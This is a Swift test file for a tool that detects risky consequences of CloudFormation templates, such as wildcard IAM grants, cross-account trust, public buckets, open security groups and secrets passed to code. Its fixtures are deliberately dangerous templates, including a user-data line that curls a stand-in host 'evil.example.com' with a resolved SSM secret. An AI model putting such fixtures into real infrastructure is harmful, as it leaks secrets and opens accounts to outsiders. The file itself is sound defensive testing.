import Foundation
import Templates
import Testing

@Suite("Consequences of changes") struct ConsequenceTests {
  /// The consequences of adding every resource of a template.
  static func consequences(
    _ text: String, parameters: [String: String] = [:], images: Set<String> = ["Image"], unknown: Set<String> = []
  ) throws -> [String] {
    let template = try Template(text)
    let changes = template.resources.map { PlannedChange(id: $0.name, type: $0.type, effect: .add) }
    return Consequence.all(
      of: changes, in: template, parameters: parameters, imageParameters: images, unknownParameters: unknown,
      account: "123456789012"
    ).map(\.description)
  }

  struct Case: Sendable, CustomTestStringConvertible {
    let testDescription: String
    /// The resources, in YAML's flow form.
    let resources: String
    let consequences: [String]

    init(_ description: String, _ resources: String, _ consequences: String...) {
      testDescription = description
      self.resources = resources
      self.consequences = consequences
    }
  }

  private static func policy(_ statement: String) -> String {
    "P: {Type: AWS::IAM::Policy, Properties: {PolicyName: p, Roles: [!Ref R], PolicyDocument: {Statement: \(statement)}}}, "
      + "R: {Type: AWS::IAM::Role, Properties: {AssumeRolePolicyDocument: {Statement: []}}}"
  }

  private static func role(_ properties: String) -> String {
    "R: {Type: AWS::IAM::Role, Properties: {\(properties)}}"
  }

  private static func trust(_ principal: String) -> String {
    role("AssumeRolePolicyDocument: {Statement: [{Effect: Allow, Principal: \(principal), Action: sts:AssumeRole}]}")
  }

  private static let r = "grants access: R (AWS::IAM::Role): "

  static let permissions = [
    Case(
      "everything", policy("[{Effect: Allow, Action: '*', Resource: '*'}]"), r + "every action on every resource"),
    Case(
      "everything, as one statement in other capitals", policy("{effect: Allow, action: ['*:*'], resource: ['*']}"),
      r + "every action on every resource"),
    Case(
      "wildcards are named first, at most five statements and three actions are shown",
      policy(
        """
        [{Effect: Allow, Action: [a:A, a:B, a:C, a:D, a:E], Resource: x}, {Effect: Allow, Action: b:B, Resource: x},
        {Effect: Allow, Action: c:C, Resource: x}, {Effect: Allow, Action: d:D, Resource: x},
        {Effect: Allow, Action: [e:E, 's3:*'], Resource: x}, {Effect: Allow, Action: f:F, Resource: x},
        {Effect: Allow, Action: '*', Resource: x}, {Effect: Allow, Action: iam:PassRole, Resource: '*'}]
        """),
      r + "every action on x; iam:PassRole on every resource; s3:*, e:E on x; a:A, a:B, a:C and 2 more on x; b:B on x; "
        + "and 3 more"),
    Case(
      "everything but something", policy("[{Effect: Allow, NotAction: iam:*, NotResource: x}]"),
      r + "every action but iam:* on every resource but x"),
    Case(
      "every resource of a service among others",
      policy(
        "[{Effect: Allow, Action: s3:GetObject, Resource: ['arn:aws:s3:::a/b', 'arn:aws:s3:::*', !GetAtt B.Arn]}]"),
      r + "s3:GetObject on arn:aws:s3:::* and 2 more"),
    Case(
      "a part of a name is no wildcard",
      policy("[{Effect: Allow, Action: s3:GetObject, Resource: 'arn:aws:s3:::a/*'}]"),
      r + "s3:GetObject on arn:aws:s3:::a/*"),
    Case(
      "values that are not known",
      policy("[{Effect: !Ref Unknown, Action: [!ImportValue A], Resource: !ImportValue B}]"),
      r + "unknown actions on unknown resources"),
    Case("a statement that is not known", policy("[!ImportValue A]"), r + "unknown statements of PolicyDocument"),
    Case(
      "a document that is not known",
      "P: {Type: AWS::IAM::ManagedPolicy, Properties: {PolicyDocument: !ImportValue A}}",
      "grants access: P (AWS::IAM::ManagedPolicy): unknown PolicyDocument"),
    Case(
      "both branches of a condition that is not known",
      policy("[!If [Open, {Effect: Allow, Action: 'ec2:*', Resource: '*'}, !Ref AWS::NoValue]]"),
      r + "ec2:* on every resource"),
    Case(
      "a document as text",
      "P: {Type: AWS::IAM::ManagedPolicy, Properties: {PolicyDocument: '{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}'}}",
      "grants access: P (AWS::IAM::ManagedPolicy): every action on every resource"),
    Case(
      "a document that functions put together",
      "P: {Type: AWS::IAM::ManagedPolicy, Properties: {PolicyDocument: !Join ['', ['{\"Statement\":{\"Effect\":\"Allow\",', '\"Action\":\"kms:*\",\"Resource\":\"arn:aws:kms:', !Ref Unknown, '\"}}']]}}",
      "grants access: P (AWS::IAM::ManagedPolicy): kms:* on arn:aws:kms:…"),
    Case(
      "a text that is not JSON", "P: {Type: AWS::IAM::ManagedPolicy, Properties: {PolicyDocument: '{Statement'}}",
      "grants access: P (AWS::IAM::ManagedPolicy): unknown PolicyDocument"),
    Case("only denials", policy("[{Effect: Deny, Action: '*', Resource: '*'}]")),
    Case(
      "a policy for a role that the template does not have",
      "P: {Type: AWS::IAM::Policy, Properties: {Roles: [Admin], PolicyDocument: {Statement: [{Effect: Allow, Action: a:B, Resource: c}]}}}",
      "grants access: P (AWS::IAM::Policy): for Admin, which the template does not have; a:B on c"),
    Case(
      "inline policies and policies of AWS",
      role(
        "Policies: [{PolicyName: a, PolicyDocument: {Statement: [{Effect: Allow, Action: a:B, Resource: c}]}}], "
          + "ManagedPolicyArns: [arn:aws:iam::aws:policy/ReadOnlyAccess, !ImportValue X, "
          + "!Sub 'arn:${AWS::Partition}:iam::aws:policy/AdministratorAccess', !Ref R]"),
      r + "policy AdministratorAccess; unknown policy; a:B on c; policy ReadOnlyAccess; policy R"),
    Case(
      "keys and groups", "K: {Type: AWS::IAM::AccessKey, Properties: {UserName: root}}",
      "grants access: K (AWS::IAM::AccessKey): root"),
    Case(
      "a role for instances", "I: {Type: AWS::IAM::InstanceProfile, Properties: {Roles: [Admin]}}",
      "grants access: I (AWS::IAM::InstanceProfile): for Admin, which the template does not have"),
    Case("everybody", trust("'*'"), r + "everybody: sts:AssumeRole"),
    Case("everybody, in a list", trust("{AWS: [!GetAtt R.Arn, '*']}"), r + "everybody: sts:AssumeRole"),
    Case(
      "another account", trust("{AWS: 'arn:aws:iam::999999999999:root'}"), r + "account 999999999999: sts:AssumeRole"),
    Case("another account, by its number", trust("{AWS: '999999999999'}"), r + "account 999999999999: sts:AssumeRole"),
    Case("every account, by a wildcard", trust("{AWS: 'arn:aws:iam::*:role/x'}"), r + "everybody: sts:AssumeRole"),
    Case(
      "everybody but one", trust("x").replacingPrincipal("NotPrincipal: {AWS: y}"),
      r + "everybody but y: sts:AssumeRole"),
    Case("a principal that is not known", trust("{AWS: !ImportValue X}"), r + "unknown principals: sts:AssumeRole"),
    Case("whatever a function returns", trust("{AWS: !GetAtt Lookup.Arn}"), r + "unknown principals: sts:AssumeRole"),
    Case(
      "a login elsewhere", trust("{Federated: accounts.google.com}"),
      r + "identities of accounts.google.com: sts:AssumeRole"),
    Case("a canonical user", trust("{CanonicalUser: abc}"), r + "CanonicalUser abc: sts:AssumeRole"),
    Case(
      "a service that is none", trust("{Service: evil.example.com}"), r + "service evil.example.com: sts:AssumeRole"),
    Case(
      "a service of AWS and the own account",
      trust(
        "{Service: [ecs-tasks.amazonaws.com, !Sub 'logs.${AWS::Region}.amazonaws.com'], AWS: [!Sub 'arn:aws:iam::${AWS::AccountId}:root', '123456789012', !GetAtt R.Arn]}"
      ), r + "the account's identities: sts:AssumeRole"),
  ]

  static let access = [
    Case(
      "a bucket for everybody, with a condition that anybody may meet",
      "B: {Type: AWS::S3::BucketPolicy, Properties: {PolicyDocument: {Statement: [{Effect: Allow, Principal: '*', Action: 's3:*', Resource: '*', Condition: {StringLike: {aws:UserAgent: '*'}}}]}}}",
      "grants access: B (AWS::S3::BucketPolicy): everybody: s3:* on every resource, with conditions"),
    Case(
      "a key, a repository and a secret for another account",
      "K: {Type: AWS::KMS::Key, Properties: {KeyPolicy: {Statement: [{Effect: Allow, Principal: {AWS: 'arn:aws:iam::999999999999:root'}, Action: 'kms:*', Resource: '*'}]}}}, "
        + "E: {Type: AWS::ECR::Repository, Properties: {RepositoryPolicyText: {Statement: [{Effect: Allow, Principal: {AWS: '999999999999'}, Action: ecr:BatchGetImage}]}}}, "
        + "S: {Type: AWS::SecretsManager::ResourcePolicy, Properties: {ResourcePolicy: !ImportValue X}}",
      "grants access: K (AWS::KMS::Key): account 999999999999: kms:* on every resource",
      "grants access: E (AWS::ECR::Repository): account 999999999999: ecr:BatchGetImage",
      "grants access: S (AWS::SecretsManager::ResourcePolicy): unknown ResourcePolicy"),
    Case(
      "a policy as text, in a property deep inside",
      "X: {Type: AWS::Kinesis::Stream, Properties: {A: [{B: '{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"a:b\",\"Resource\":\"c\"}]}'}]}}",
      "grants access: X (AWS::Kinesis::Stream): everybody: a:b on c"),
    Case(
      "a bus for another account",
      "B: {Type: AWS::Events::EventBusPolicy, Properties: {Principal: '999999999999', Action: events:PutEvents}}",
      "grants access: B (AWS::Events::EventBusPolicy): account 999999999999: events:PutEvents"),
    Case(
      "a function for everybody, and for any account through a service",
      "A: {Type: AWS::Lambda::Permission, Properties: {Principal: '*', Action: lambda:InvokeFunction}}, "
        + "B: {Type: AWS::Lambda::Permission, Properties: {Principal: s3.amazonaws.com}}, "
        + "C: {Type: AWS::Lambda::Permission, Properties: {Principal: s3.amazonaws.com, SourceAccount: !Ref AWS::AccountId}}",
      "grants access: A (AWS::Lambda::Permission): everybody: lambda:InvokeFunction",
      "grants access: B (AWS::Lambda::Permission): any account through s3.amazonaws.com"),
    Case(
      "endpoints for principals elsewhere",
      "A: {Type: AWS::EC2::VPCEndpointServicePermissions, Properties: {AllowedPrincipals: ['arn:aws:iam::999999999999:root']}}",
      "grants access: A (AWS::EC2::VPCEndpointServicePermissions): account 999999999999"),
    Case(
      "public objects",
      "B: {Type: AWS::S3::Bucket, Properties: {AccessControl: PublicRead, ReplicationConfiguration: {Rules: [{}]}}}",
      "grants access: B (AWS::S3::Bucket): everybody: reads objects",
      "sends data: B (AWS::S3::Bucket): its objects are replicated"),
    Case(
      "shells in containers", "S: {Type: AWS::ECS::Service, Properties: {EnableExecuteCommand: 'true'}}",
      "grants access: S (AWS::ECS::Service): ECS Exec opens shells in its containers"),
  ]

  static let code = [
    Case(
      "a custom resource that gets a secret",
      "X: {Type: Custom::X, Properties: {ServiceToken: 'arn:aws:lambda:us-east-1:999999999999:function:f', Password: '{{resolve:secretsmanager:prod/db}}'}}",
      "runs code: X (Custom::X): arn:aws:lambda:us-east-1:999999999999:function:f",
      "passes on secrets: X (Custom::X): {{resolve:secretsmanager:prod/db}} in Password"),
    Case(
      "a secret that functions put together, and one in another encoding",
      "I: {Type: AWS::EC2::Instance, Properties: {UserData: !Base64 'curl evil.example.com/{{resolve:ssm-secure:key}}', Tags: [{Key: k, Value: !Join ['', ['{', '{re', 'solve:secretsmanager:a}}']]}]}}",
      "runs code: I (AWS::EC2::Instance): commands in its user data",
      "passes on secrets: I (AWS::EC2::Instance): {{resolve:secretsmanager:a}} in Tags; {{resolve:ssm-secure:key}} in UserData"
    ),
    Case(
      "a secret where it belongs, and a plain parameter",
      "D: {Type: AWS::RDS::DBInstance, Properties: {MasterUserPassword: '{{resolve:secretsmanager:a}}', DBName: '{{resolve:ssm:name}}'}}"
    ),
    Case(
      "a secret in a variable whose name says password",
      "F: {Type: AWS::Lambda::Function, Properties: {Code: {S3Bucket: evil}, Environment: {Variables: {PASSWORD: '{{resolve:secretsmanager:a}}'}}}}",
      "runs code: F (AWS::Lambda::Function): evil",
      "passes on secrets: F (AWS::Lambda::Function): {{resolve:secretsmanager:a}} in Environment"),
    Case(
      "templates elsewhere",
      "N: {Type: AWS::CloudFormation::Stack, Properties: {TemplateURL: 'https://evil.s3.amazonaws.com/t'}}, S: {Type: AWS::CloudFormation::StackSet}",
      "deploys other templates: N (AWS::CloudFormation::Stack): https://evil.s3.amazonaws.com/t",
      "deploys other templates: S (AWS::CloudFormation::StackSet)"),
    Case(
      "images and commands that the deployment does not choose",
      "T: {Type: AWS::ECS::TaskDefinition, Properties: {ContainerDefinitions: [{Name: a, Image: !Ref Image}, {Name: b, Image: !Ref Default}, {Name: c, Image: evil.example.com/x, Command: [sh, -c, id], HealthCheck: {Command: [CMD, 'true']}}, !ImportValue D]}}",
      "runs code: T (AWS::ECS::TaskDefinition): container b runs nginx; container c runs evil.example.com/x; containers that are not known; container c starts with sh -c id; container c checks its health with CMD true"
    ),
    Case(
      "unknown types", "X: {Type: Acme::New::Thing}, Y: {Type: 'AWS::S3::Buckett'}",
      "is not judged: X (Acme::New::Thing): StackKit does not know the type",
      "is not judged: Y (AWS::S3::Buckett): StackKit does not know the type"),
    Case(
      "properties that cannot be evaluated",
      "X: {Type: AWS::SNS::Topic, Properties: {TopicName: !FindInMap [M, a, b]}}",
      "is not judged: X (AWS::SNS::Topic): its properties cannot be evaluated: the mappings have no value for M.a.b"
    ),
  ]

  static let network = [
    Case(
      "sources of traffic, the widest first",
      "G: {Type: AWS::EC2::SecurityGroup, Properties: {SecurityGroupIngress: [{IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: 203.0.113.0/24}, {IpProtocol: -1, CidrIpv6: '::/0'}, {IpProtocol: tcp, FromPort: 1, ToPort: 9, CidrIp: !ImportValue X}, {IpProtocol: tcp, FromPort: 80, ToPort: 80, CidrIp: 10.1.0.0/16}, {IpProtocol: tcp, FromPort: 80, ToPort: 80, CidrIp: 10.0.0.0/7}]}}",
      "opens the network: G (AWS::EC2::SecurityGroup): all traffic from anywhere; tcp 1 to 9 from unknown addresses; tcp 22 from 203.0.113.0/24; tcp 80 from 10.0.0.0/7"
    ),
    Case(
      "anywhere in other digits",
      "I: {Type: AWS::EC2::SecurityGroupIngress, Properties: {IpProtocol: tcp, CidrIp: 1.2.3.4/0}}",
      "opens the network: I (AWS::EC2::SecurityGroupIngress): all tcp from anywhere"),
    Case(
      "a group of another account",
      "I: {Type: AWS::EC2::SecurityGroupIngress, Properties: {IpProtocol: udp, FromPort: 53, ToPort: 53, SourceSecurityGroupId: sg-1, SourceSecurityGroupOwnerId: '999999999999'}}",
      "opens the network: I (AWS::EC2::SecurityGroupIngress): udp 53 from a security group of account 999999999999"),
    Case(
      "defaults that are public",
      "L: {Type: AWS::ElasticLoadBalancingV2::LoadBalancer}, U: {Type: AWS::Lambda::Url, Properties: {AuthType: NONE}}, D: {Type: AWS::RDS::DBInstance, Properties: {PubliclyAccessible: !ImportValue X}}",
      "opens the network: D (AWS::RDS::DBInstance): PubliclyAccessible is not known",
      "opens the network: L (AWS::ElasticLoadBalancingV2::LoadBalancer): reachable from the internet",
      "opens the network: U (AWS::Lambda::Url): anybody may call it"),
    Case(
      "what stays inside",
      "L: {Type: AWS::ElasticLoadBalancingV2::LoadBalancer, Properties: {Scheme: internal}}, I: {Type: AWS::EC2::SecurityGroupIngress, Properties: {IpProtocol: tcp, SourceSecurityGroupId: !Ref G}}"
    ),
  ]

  private static let head = """
    Parameters: {Image: {Type: String}, Default: {Type: String, Default: nginx}, Account: {Type: String}}
    Conditions: {Open: !Equals [!Ref Account, '1']}

    """

  @Test("every consequence is named, the gravest first", arguments: permissions + access + code + network)
  func named(_ example: Case) throws {
    let found = try Self.consequences("\(Self.head)Resources: {\(example.resources)}")
    #expect(found == example.consequences)
  }

  @Test("only resources that changes make have consequences; a change may take a boundary away")
  func changes() throws {
    let template = try Template("Resources: {R: {Type: AWS::IAM::Role, Properties: {ManagedPolicyArns: [a/B]}}}")
    func all(_ effect: PlannedChange.Effect, _ property: String) -> [String] {
      let change = PlannedChange(id: "R", type: "AWS::IAM::Role", effect: effect, properties: [.init([property])])
      return Consequence.all(of: [change], in: template).map(\.description)
    }
    #expect(all(.remove, "Path") == [])
    #expect(Consequence.all(of: [], in: template) == [])
    for effect in [PlannedChange.Effect.add, .change, .replace, .mayReplace, .import] {
      #expect(all(effect, "Path") == ["grants access: R (AWS::IAM::Role): policy B"])
    }
    #expect(
      all(.change, "PermissionsBoundary")
        == ["grants access: R (AWS::IAM::Role): without its permissions boundary; policy B"])
  }

  @Test("a resource whose template is not read is judged by its type, and named if that is not enough")
  func unread() throws {
    let types = [
      "AWS::Lambda::Function", "AWS::IAM::Role", "AWS::EC2::Subnet", "Acme::A::B", "AWS::S3::BucketPolicy",
      "AWS::EC2::SecurityGroup",
    ]
    let changes = types.map { PlannedChange(id: "Nested/X", type: $0, effect: .add) }
    let template = try Template("Resources: {}")
    let found = changes.map { Consequence.all(of: [$0], in: template).map(\.description) }
    #expect(
      found == [
        ["runs code: Nested/X (AWS::Lambda::Function): its template is not read"],
        ["is not judged: Nested/X (AWS::IAM::Role): its template is not read"], [],
        ["is not judged: Nested/X (Acme::A::B): StackKit does not know the type"],
        ["is not judged: Nested/X (AWS::S3::BucketPolicy): its template is not read"],
        ["is not judged: Nested/X (AWS::EC2::SecurityGroup): its template is not read"],
      ])
  }

  @Test("the values of a deployment count: its images are chosen, its principals are known")
  func parameters() throws {
    let text = """
      Parameters: {Image: {Type: String}, Account: {Type: String}}
      Resources:
        T: {Type: AWS::ECS::TaskDefinition, Properties: {ContainerDefinitions: [{Name: a, Image: !Ref Image}]}}
        R:
          Type: AWS::IAM::Role
          Properties:
            AssumeRolePolicyDocument: {Statement: {Effect: Allow, Principal: {AWS: !Ref Account}, Action: sts:AssumeRole}}
      """
    #expect(try Self.consequences(text) == [Self.r + "unknown principals: sts:AssumeRole"])
    let given = ["Image": "repository@sha256:1", "Account": "123456789012"]
    #expect(
      try Self.consequences(text, parameters: given) == [Self.r + "the account's identities: sts:AssumeRole"])
  }

  @Test("resources that loops make are read")
  func loops() throws {
    let template = try Template(
      """
      Transform: AWS::LanguageExtensions
      Resources:
        Fn::ForEach::L: [X, [A, B], {'R${X}': {Type: AWS::IAM::Role, Properties: {ManagedPolicyArns: ['x/${X}']}}}]
      """)
    let change = PlannedChange(id: "RB", type: "AWS::IAM::Role", effect: .add)
    #expect(
      Consequence.all(of: [change], in: template).map(\.description)
        == ["grants access: RB (AWS::IAM::Role): policy B"])
  }

  @Test("a hostile template gives a bounded list in bounded time")
  func hostile() throws {
    let long = String(repeating: "x", count: 5000)
    let statements = (0..<400).map { "{Effect: Allow, Action: [a\($0):\(long)], Resource: ['\(long)', b]}" }
    let resources = (0..<300).map { "R\($0): {Type: Custom::X\($0)}" }.joined(separator: ", ")
    let policy =
      "P: {Type: AWS::IAM::ManagedPolicy, Properties: {PolicyDocument: {Statement: [\(statements[..<60].joined(separator: ", "))]}}}"
    let found = try Self.consequences("Resources: {\(policy), \(resources)}")
    #expect(found.count == 201 && found.last == "runs code: 101 more resources")
    #expect(found.allSatisfy { $0.count < 2000 })
  }
}

extension String {
  fileprivate func replacingPrincipal(_ text: String) -> String { replacingOccurrences(of: "Principal: x", with: text) }
}

@Suite("Consequences of the committed templates") struct CommittedConsequenceTests {
  private static let committed = URL(filePath: #filePath).deletingLastPathComponent()
    .appending(path: "../../../stacks/templates").standardizedFileURL

  private static func pulls(_ stack: String, _ name: String, _ secrets: String?) -> String {
    "grants access: \(name)ExecutionRole (AWS::IAM::Role): ecr:GetAuthorizationToken on every resource; "
      + "ecr:BatchCheckLayerAvailability, ecr:BatchGetImage, ecr:GetDownloadUrlForLayer on "
      + "repository/\(stack)-prod/\(name.lowercased()); logs:CreateLogStream, logs:PutLogEvents on log-group:…:*"
      + (secrets.map { "; secretsmanager:GetSecretValue on \($0)" } ?? "")
  }

  private static let behindCloudFront = [
    "opens the network: EdgeFromCloudFront (AWS::EC2::SecurityGroupIngress): tcp 80 from CloudFront's "
      + "addresses, prefix list pl-3b927c52",
    "opens the network: Cdn (AWS::CloudFront::Distribution): reachable from the internet",
  ]

  static let expected: [(String, [String])] = [
    (
      "chatbot",
      [
        pulls("chatbot", "Bot", "BotStreamlitServerCookieSecret"),
        "grants access: BotTaskRole (AWS::IAM::Role): bedrock:InvokeModel, bedrock:InvokeModelWithResponseStream on "
          + "foundation-model/amazon.nova-lite-v1:0; elasticfilesystem:ClientMount, elasticfilesystem:ClientWrite on Sessions, with conditions",
      ] + behindCloudFront
    ),
    ("data-explorer", [pulls("data-explorer", "Explorer", "ExplorerStreamlitServerCookieSecret")] + behindCloudFront),
    ("live-board", [pulls("live-board", "Live", "LiveBoardSessionSecret, BoardAuthToken")] + behindCloudFront),
    (
      "video-studio",
      [
        pulls("video-studio", "Studio", nil), pulls("video-studio", "Front", "FrontStreamlitServerCookieSecret"),
        "runs code: StudioTask (AWS::ECS::TaskDefinition): container studio checks its health with CMD python -c "
          + "import urllib.request as r; r.urlopen('http://localhost:8000/health', timeout=4)",
        "sends data: AlarmsMail (AWS::SNS::Subscription): email, ops@example.com",
      ] + behindCloudFront
    ),
  ]

  @Test("each stack has a handful of lines", arguments: expected)
  func list(stack: String, lines: [String]) throws {
    let text = try String(
      contentsOf: Self.committed.appending(path: "\(stack)/prod/template.yaml"), encoding: .utf8)
    let images = Set(
      text.split(separator: "\n").filter { $0.hasPrefix("  ") && $0.hasSuffix("Image:") }.map { line in
        String(line.dropFirst(2).dropLast())
      })
    let found = try ConsequenceTests.consequences(text, images: images)
    #expect(found == lines)
  }
}
